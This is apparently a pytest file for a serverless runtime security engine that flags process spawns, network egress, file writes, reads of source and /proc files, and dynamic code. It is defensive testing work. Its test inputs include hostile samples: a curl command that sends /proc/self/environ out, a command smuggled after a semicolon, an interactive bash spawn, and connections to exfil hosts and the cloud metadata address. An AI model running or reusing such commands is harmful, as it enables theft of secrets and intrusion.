"""The shield engine's decisions, called directly with audit-event arguments.

No audit hook is installed here: the engine is a plain object, so every decision can be checked in
this process. The end-to-end behaviour (real processes, sockets, files) is in test_shield_hook.py.
"""

from __future__ import annotations

import os
import socket
from pathlib import Path
from typing import Any

import pytest
from faasguard_runtime.shield import Mode, ShieldPolicy
from faasguard_runtime.shield.engine import Engine, Finding

ALERT_ALL: dict[str, Any] = {
    name: Mode.ALERT
    for name in ("subprocess", "egress", "file_write", "code_read", "dynamic_code", "ctypes")
}
WRITE = os.O_WRONLY | os.O_CREAT | os.O_TRUNC


def engine(**options: Any) -> Engine:
    return Engine(ShieldPolicy(**{**ALERT_ALL, **options}), environ={})


class FakeSocket:
    def __init__(self, family: int) -> None:
        self.family = family


INET = FakeSocket(socket.AF_INET)


def test_watched_events_follow_the_active_policies() -> None:
    only_egress_policy: dict[str, Any] = {n: Mode.ALLOW for n in ALERT_ALL}
    only_egress = Engine(ShieldPolicy(**{**only_egress_policy, "egress": Mode.BLOCK}), environ={})
    assert only_egress.watched == frozenset(
        {
            "socket.connect",
            "socket.sendto",
            "socket.sendmsg",
            "socket.getaddrinfo",
            "socket.gethostbyname",
            "socket.gethostbyname_ex",
            "socket.gethostbyaddr",
            "socket.getnameinfo",
        }
    )
    assert Engine(ShieldPolicy.allow_all(), environ={}).watched == frozenset()


def test_open_is_watched_for_reads_alone() -> None:
    reads_only: dict[str, Any] = {**{n: Mode.ALLOW for n in ALERT_ALL}, "code_read": Mode.BLOCK}
    assert Engine(ShieldPolicy(**reads_only), environ={}).watched == frozenset(
        {"open", "os.symlink", "os.link"}
    )


def test_policy_of_names_the_owner_of_an_event() -> None:
    both = engine()
    assert [both.policy_of(e) for e in ("open", "os.remove", "compile", "id")] == [
        "file_write",
        "file_write",
        "dynamic_code",
        None,
    ]


# -- subprocess --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("event", "args", "target"),
    [
        ("subprocess.Popen", ("/bin/ls", ["/bin/ls"], None, None), "/bin/ls"),
        ("subprocess.Popen", (b"/bin/ls", [b"/bin/ls"], None, None), "/bin/ls"),
        ("subprocess.Popen", (Path("/bin/ls"), ["ls"], None, None), "/bin/ls"),
        ("os.system", (b"curl http://x/$(cat /proc/self/environ)",), "/bin/sh"),
        ("os.exec", ("/bin/sh", ["sh"], None), "/bin/sh"),
        ("os.posix_spawn", ("/bin/true", ["true"], {}), "/bin/true"),
        ("os.spawn", (0, "/bin/true", ["true"], None), "/bin/true"),
        ("pty.spawn", (["/bin/bash", "-i"],), "/bin/bash"),
        ("pty.spawn", ("/bin/bash",), "/bin/bash"),
    ],
)
def test_spawns_name_the_program_only(event: str, args: tuple[Any, ...], target: str) -> None:
    assert engine().check(event, args) == Finding("subprocess", "spawn", event, target)


def test_allowed_program_must_match_exactly() -> None:
    shield = engine(allowed_programs=("/opt/bin/ffmpeg",))
    assert shield.check("subprocess.Popen", ("/opt/bin/ffmpeg", [], None, None)) is None
    assert shield.check("subprocess.Popen", ("ffmpeg", [], None, None)) == Finding(
        "subprocess", "spawn", "subprocess.Popen", "ffmpeg"
    )
    assert shield.check("os.system", (b"/opt/bin/ffmpeg -i x; curl evil",)) == Finding(
        "subprocess", "spawn", "os.system", "/bin/sh"
    )


# -- egress ------------------------------------------------------------------------------------


def test_resolution_of_an_unlisted_name() -> None:
    assert engine().check("socket.getaddrinfo", ("exfil.example", 443, 0, 1, 6)) == Finding(
        "egress", "resolve", "socket.getaddrinfo", "exfil.example:443"
    )
    assert engine().check("socket.gethostbyname", ("exfil.example",)) == Finding(
        "egress", "resolve", "socket.gethostbyname", "exfil.example"
    )


def test_resolution_of_an_aws_endpoint_is_allowed() -> None:
    args = ("sqs.eu-west-1.amazonaws.com", 443, 0, 1, 6)
    assert engine().check("socket.getaddrinfo", args) is None


def test_nul_in_a_host_is_refused_and_shown_escaped() -> None:
    args = ("evil.example\x00.amazonaws.com", 443, 0, 0, 0)
    assert engine().check("socket.getaddrinfo", args) == Finding(
        "egress", "resolve", "socket.getaddrinfo", "evil.example\\x00.amazonaws.com:443"
    )


def test_connect_to_an_unlisted_address() -> None:
    assert engine().check("socket.connect", (INET, ("203.0.113.9", 4444))) == Finding(
        "egress", "connect", "socket.connect", "203.0.113.9:4444"
    )
    six = FakeSocket(socket.AF_INET6)
    assert engine().check("socket.sendto", (six, ("2001:db8::9", 53, 0, 0))) == Finding(
        "egress", "connect", "socket.sendto", "2001:db8::9:53"
    )


def test_connect_to_metadata_address_is_refused_even_with_loopback() -> None:
    assert engine().check("socket.connect", (INET, ("169.254.169.254", 80))) == Finding(
        "egress", "connect", "socket.connect", "169.254.169.254:80"
    )


def test_connect_after_an_allowed_resolution_is_allowed() -> None:
    shield = engine(allowed_hosts=("api.example.com",))
    shield.hosts.remember(["198.51.100.7"])
    assert shield.check("socket.connect", (INET, ("198.51.100.7", 443))) is None


@pytest.mark.parametrize(
    "args",
    [
        (FakeSocket(socket.AF_UNIX), "/var/run/agent.sock"),
        (INET, None),  # sendmsg on a connected socket
        (INET, ("127.0.0.1", 9001)),  # the Lambda Runtime API, loopback allowed by default
    ],
)
def test_local_traffic_is_not_egress(args: tuple[Any, ...]) -> None:
    assert engine().check("socket.sendmsg", args) is None


# -- file writes -------------------------------------------------------------------------------


def test_writes_outside_write_roots(tmp_path: Path) -> None:
    allowed, outside = tmp_path / "allowed", tmp_path / "outside"
    allowed.mkdir()
    shield = engine(write_roots=(str(allowed),))
    assert shield.check("open", (str(allowed / "f"), "w", WRITE)) is None
    assert shield.check("open", (str(outside / "f"), "w", WRITE)) == Finding(
        "file_write", "write", "open", str(outside / "f")
    )
    assert shield.check("open", (str(allowed / ".." / "outside" / "f"), "a", os.O_APPEND)) == (
        Finding("file_write", "write", "open", str(outside / "f"))
    )
    assert shield.check("open", (str(outside / "f"), None, os.O_RDWR)) == Finding(
        "file_write", "write", "open", str(outside / "f")
    )


def test_reads_and_descriptors_are_not_writes(tmp_path: Path) -> None:
    shield = engine(write_roots=(str(tmp_path / "allowed"),))
    assert shield.check("open", (str(tmp_path / "f"), "r", os.O_RDONLY)) is None
    assert shield.check("open", (3, "w", 0)) is None
    assert shield.check("open", ("/dev/null", "w", WRITE)) is None


def test_link_from_a_write_root_to_outside_is_a_write(tmp_path: Path) -> None:
    allowed, outside = tmp_path / "allowed", tmp_path / "outside"
    allowed.mkdir()
    outside.mkdir()
    shield = engine(write_roots=(str(allowed),))
    link = str(allowed / "escape")
    assert shield.check("os.symlink", (str(outside), link, -1)) == Finding(
        "file_write", "link", "os.symlink", f"{link} -> {outside}"
    )
    assert shield.check("os.symlink", ("../outside", link, -1)) == Finding(
        "file_write", "link", "os.symlink", f"{link} -> {outside}"
    )
    assert shield.check("os.link", (str(outside / "f"), link, -1, -1)) == Finding(
        "file_write", "link", "os.link", f"{link} -> {outside / 'f'}"
    )
    assert shield.check("os.symlink", ("/dev/null", link, -1)) is None
    assert shield.check("os.symlink", (str(allowed / "data"), link, -1)) is None


def test_write_through_a_link_shipped_into_the_write_root_is_allowed(tmp_path: Path) -> None:
    allowed, task = tmp_path / "allowed", tmp_path / "task"
    allowed.mkdir()
    task.mkdir()
    (task / "cache").symlink_to(allowed)  # in the deployment package, pointing into /tmp
    shield = engine(write_roots=(str(allowed),))
    assert shield.check("open", (str(task / "cache" / "f"), "w", WRITE)) is None
    assert shield.check("open", (str(task / "f"), "w", WRITE)) == Finding(
        "file_write", "write", "open", str(task / "f")
    )


@pytest.mark.parametrize(
    ("event", "args"),
    [
        ("os.remove", ("{out}", -1)),
        ("os.rename", ("{ok}", "{out}", -1, -1)),
        ("os.rename", ("{out}", "{ok}", -1, -1)),
        ("os.symlink", ("/anything", "{out}", -1)),
        ("os.chmod", ("{out}", 0o777, -1)),
        ("os.mkdir", ("{out}", 0o755, -1)),
        ("shutil.rmtree", ("{out}",)),
    ],
)
def test_file_changes_outside_write_roots(
    tmp_path: Path, event: str, args: tuple[Any, ...]
) -> None:
    ok, out = str(tmp_path / "allowed" / "f"), str(tmp_path / "f")
    filled = tuple(a.format(ok=ok, out=out) if isinstance(a, str) else a for a in args)
    shield = engine(write_roots=(str(tmp_path / "allowed"),))
    assert shield.check(event, filled) == Finding("file_write", "write", event, out)


# -- code reads --------------------------------------------------------------------------------


@pytest.fixture
def task(tmp_path: Path) -> Path:
    root = tmp_path / "task"
    root.mkdir()
    for name in ("app.py", "config.json", ".env"):
        (root / name).write_text("x")
    return root


def test_reading_own_source_is_found(task: Path, tmp_path: Path) -> None:
    shield = engine(code_roots=(str(task),), write_roots=(str(tmp_path / "w"),))
    assert shield.check("open", (str(task / "app.py"), "r", os.O_RDONLY)) == Finding(
        "code_read", "read", "open", str(task / "app.py")
    )
    assert shield.check("open", (str(task / ".env"), "r", os.O_RDONLY)) == Finding(
        "code_read", "read", "open", str(task / ".env")
    )
    assert shield.check("open", (str(task / "config.json"), "r", os.O_RDONLY)) is None


def test_lambda_task_root_is_the_default_code_root(task: Path) -> None:
    shield = Engine(ShieldPolicy(**ALERT_ALL), environ={"LAMBDA_TASK_ROOT": str(task)})
    assert shield.code_roots == (str(task),)
    assert shield.check("open", (str(task / "app.py"), "r", 0)) == Finding(
        "code_read", "read", "open", str(task / "app.py")
    )


def test_process_environment_file_is_found() -> None:
    assert engine().check("open", ("/proc/self/environ", "rb", 0)) == Finding(
        "code_read", "read", "open", "/proc/self/environ"
    )


READS_ONLY: dict[str, Any] = {**{n: Mode.ALLOW for n in ALERT_ALL}, "code_read": Mode.ALERT}


@pytest.mark.parametrize(
    ("target", "expected"),
    [
        ("{task}/app.py", "{task}/app.py"),
        ("{task}", "{task}"),
        ("/", "/"),
        ("/proc/self", "/proc/{pid}"),
        ("/proc/self/environ", "/proc/{pid}/environ"),
        ("../task/config.json", "{task}/config.json"),
    ],
)
def test_link_that_exposes_code_or_proc_is_found(
    task: Path, tmp_path: Path, target: str, expected: str
) -> None:
    writable = tmp_path / "w"
    writable.mkdir()
    shield = Engine(ShieldPolicy(**READS_ONLY, code_roots=(str(task),)), environ={})
    link = str(writable / "notes.txt")
    source = target.format(task=task)
    shown = expected.format(task=task, pid=os.getpid())
    assert shield.check("os.symlink", (source, link, -1)) == Finding(
        "code_read", "link", "os.symlink", f"{link} -> {shown}"
    )


def test_link_to_unrelated_data_is_not_a_code_read(task: Path, tmp_path: Path) -> None:
    shield = Engine(ShieldPolicy(**READS_ONLY, code_roots=(str(task),)), environ={})
    link = str(tmp_path / "w" / "notes.txt")
    assert shield.check("os.symlink", ("/usr/share/zoneinfo/UTC", link, -1)) is None


def test_read_through_proc_links_is_resolved(task: Path) -> None:
    shield = engine(code_roots=(str(task),))
    cwd = os.getcwd()
    os.chdir(task)
    try:
        finding = shield.check("open", ("/proc/self/cwd/app.py", "r", 0))
    finally:
        os.chdir(cwd)
    assert finding == Finding("code_read", "read", "open", "/proc/self/cwd/app.py")


# -- dynamic code ------------------------------------------------------------------------------


def test_compiling_a_literal_is_allowed() -> None:
    # As exec("...") passes it: the literal itself is a constant of the calling code. (Written
    # inline in the args tuple, the compiler would fold it into a tuple constant instead.)
    source = b"total = 6 * 7"
    assert engine().check("compile", (source, "<string>")) is None


def test_compiling_built_source_is_found() -> None:
    source = ("total = " + str(6 * 7)).encode()
    assert engine().check("compile", (source, "<string>")) == Finding(
        "dynamic_code", "compile", "compile", "<string> (10 bytes)"
    )


def test_unmarshalling_code_is_found() -> None:
    assert engine().check("marshal.loads", (b"\xe3\x00\x00",)) == Finding(
        "dynamic_code", "load", "marshal.loads", "3 bytes"
    )


def test_building_a_code_object_is_found() -> None:
    args = (b"\x97\x00", "/var/task/x.py", "payload", 0, 0, 0, 0, 1, 3)
    assert engine().check("code.__new__", args) == Finding(
        "dynamic_code", "compile", "code.__new__", "payload"
    )


def test_code_claiming_a_file_in_a_write_root_is_found_whoever_builds_it() -> None:
    # Files in /tmp were written after the cold start: code from them is dynamic code even when
    # the import system (a trusted code generator) compiles it.
    args = (b"\x97\x00", "/tmp/x.py", "payload", 0, 0, 0, 0, 1, 3)
    assert engine().check("code.__new__", args) == Finding(
        "dynamic_code", "compile", "code.__new__", "/tmp/x.py"
    )
    assert engine().check("compile", (b"X = 1", "/tmp/../tmp/dropped.py")) == Finding(
        "dynamic_code", "compile", "compile", "/tmp/dropped.py"
    )


# -- ctypes ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("event", "args", "target"),
    [
        ("ctypes.dlopen", (None,), "<process>"),
        ("ctypes.dlopen", ("libc.so.6",), "libc.so.6"),
        ("ctypes.dlsym", (object(), "system"), "system"),
        ("ctypes.dlsym/handle", (1234, "mprotect"), "mprotect"),
        ("ctypes.cdata", (0x7F00,), "0x7f00"),
        ("ctypes.PyObj_FromPtr", (object(),), "object pointer"),
    ],
)
def test_ctypes_events(event: str, args: tuple[Any, ...], target: str) -> None:
    assert engine().check(event, args) == Finding("ctypes", "load", event, target)


# -- second pass (issue 10) ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("database", "target"),
    [
        ("/var/task/geo.db", "/var/task/geo.db"),
        ("file:/var/task/geo.db", "/var/task/geo.db"),
        ("file:///var/task/geo.db?cache=shared", "/var/task/geo.db"),
        ("file:/var/task/a%20b.db?mode=rw", "/var/task/a b.db"),
        (":memory:", None),
        ("", None),
        ("file::memory:?cache=shared", None),
        ("file:/var/task/geo.db?mode=ro", None),
        ("file:/var/task/geo.db?immutable=1", None),
        ("file:shared?mode=memory", None),
        ("/tmp/scratch.db", None),
    ],
)
def test_sqlite_connect_is_judged_as_a_write_of_its_file(database: str, target: str | None) -> None:
    found = engine().check("sqlite3.connect", (database,))
    expected = None if target is None else Finding("file_write", "write", "sqlite3.connect", target)
    assert found == expected


@pytest.mark.parametrize(
    ("host", "allowed"),
    [("192.0.2.1", False), ("127.0.0.1", True), (socket.gethostname(), True), (None, True)],
)
def test_reverse_lookups_are_egress(host: Any, allowed: bool) -> None:
    shield = engine()
    found = shield.check("socket.gethostbyaddr", (host,))
    assert (found is None) == allowed
    if not allowed:
        assert found == Finding("egress", "resolve", "socket.gethostbyaddr", host)
    assert (shield.check("socket.getnameinfo", ((host, 80), 0)) is None) == allowed


def test_dotdot_write_is_judged_where_it_lands(tmp_path: Path) -> None:
    allowed = tmp_path / "allowed"
    (allowed / "x").mkdir(parents=True)
    (allowed / "x" / "up").symlink_to(allowed)  # made before the engine looks (native code)
    shield = engine(write_roots=(str(allowed),))
    sneaky = f"{allowed}/x/up/../escaped.txt"
    assert shield.check("open", (sneaky, "w", WRITE)) == Finding(
        "file_write", "write", "open", str(tmp_path / "escaped.txt")
    )
    assert shield.check("open", (f"{allowed}/x/../ok.txt", "w", WRITE)) is None


def test_bytecode_cache_exemption_needs_the_exact_shape() -> None:
    from faasguard_runtime.shield.engine import _is_bytecode_cache

    assert _is_bytecode_cache("/var/task/pkg/__pycache__/mod.cpython-311.pyc")
    assert _is_bytecode_cache("/var/task/pkg/__pycache__/mod.cpython-311.opt-1.pyc.140234")
    assert _is_bytecode_cache("/var/task/pkg/__pycache__")
    assert not _is_bytecode_cache("/var/task/__pycache__evil/x.pyc")
    assert not _is_bytecode_cache("/var/task/__pycache__/run.sh")
    assert not _is_bytecode_cache("/var/task/pkg/__pycache__/../handler.py")
